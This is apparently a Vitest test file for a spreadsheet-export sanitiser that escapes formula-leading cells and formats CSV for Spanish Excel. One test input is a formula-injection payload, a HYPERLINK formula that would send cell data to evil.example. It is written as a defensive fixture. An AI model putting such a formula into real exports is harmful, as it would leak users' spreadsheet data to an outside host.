import { describe, expect, it } from 'vitest';
import { spreadsheetCsv, spreadsheetText } from './spreadsheet.js';

describe('spreadsheetText', () => {
  it.each([
    ['=HYPERLINK("https://evil.example/?d="&A3,"Ver")', `'=HYPERLINK("https://evil.example/?d="&A3,"Ver")`],
    ['+57 310 111 2233', "'+57 310 111 2233"],
    ['-2+3', "'-2+3"],
    ['-16,00', '-16,00'],
    ['-1.234', '-1.234'],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['Ana María', 'Ana María'],
    ['a=b', 'a=b'],
    [null, ''],
    [7, '7'],
  ])('%j → %j', (value, expected) => {
    expect(spreadsheetText(value)).toBe(expected);
  });
});

describe('spreadsheetCsv', () => {
  it('quotes every cell, doubles quotes and neutralises formulas, for Spanish Excel', () => {
    expect(spreadsheetCsv(['Nombre', 'Nota'], [['=1+1', 'dice "hola"; adiós']])).toBe(
      '\uFEFF"Nombre";"Nota"\r\n"\'=1+1";"dice ""hola""; adiós"\r\n',
    );
  });
});
